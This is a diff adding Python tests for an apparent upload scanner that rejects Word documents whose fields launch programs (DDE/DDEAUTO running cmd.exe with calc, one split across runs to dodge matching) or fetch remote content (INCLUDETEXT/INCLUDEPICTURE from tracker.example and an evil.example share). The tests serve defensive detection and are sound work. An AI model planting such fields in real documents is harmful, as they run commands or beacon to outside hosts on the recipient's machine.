@@ -121,3 +121,50 @@ def test_an_open_action_or_additional_action_that_is_a_dictionary_or_reference_i
 def test_remote_and_multimedia_actions_are_refused():
     for name in (b"Rendition", b"GoToR", b"Sound", b"Movie"):
         assert active(b"/Names << /X << /S /%s /F (other.pdf) >> >>" % name), name
+
+
+def field_docx(body: str, part: str = "word/document.xml") -> bytes:
+    return files.clean_docx(**{part: files.document_xml(body)})
+
+
+def run(instruction: str) -> str:
+    return f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
+
+
+def field(*pieces: str) -> str:
+    """A complex field: begin, its instruction in pieces (Word splits it into runs), end."""
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + "".join(run(piece) for piece in pieces)
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def test_word_fields_that_load_or_run_something_are_refused():
+    """DDE and DDEAUTO start a program, INCLUDETEXT and INCLUDEPICTURE fetch a file or an
+    address: in a complex field (even split across runs, in any case) or a simple one."""
+    cases = [
+        field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
+        field(" dd", 'eAuto cmd "/c calc"'),
+        field(' DDE "c:\\\\windows\\\\cmd.exe" "/c calc"'),
+        field(' INCLUDEPICTURE "https://tracker.example/p.png" \\d '),
+        field(' includetext "\\\\\\\\evil.example\\\\share\\\\x.docx" '),
+        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE https://tracker.example/p.png">'
+        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
+    ]
+    for body in cases:
+        problem = uploads.docx_problem(field_docx(body))
+        assert problem is not None and problem.reason == uploads.REMOTE, body
+    header = uploads.docx_problem(field_docx(field(" DDEAUTO cmd "), "word/header1.xml"))
+    assert header is not None and header.reason == uploads.REMOTE
+
+
+def test_ordinary_word_fields_pass():
+    body = (
+        field(" PAGE \\* MERGEFORMAT ")
+        + field(' HYPERLINK "https://example.org/dde-and-includetext" ')
+        + field(" TOC \\o ", '"1-3" \\h ')
+        + '<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>2</w:t></w:r></w:fldSimple></w:p>'
+    )
+    assert uploads.docx_problem(field_docx(body)) is None
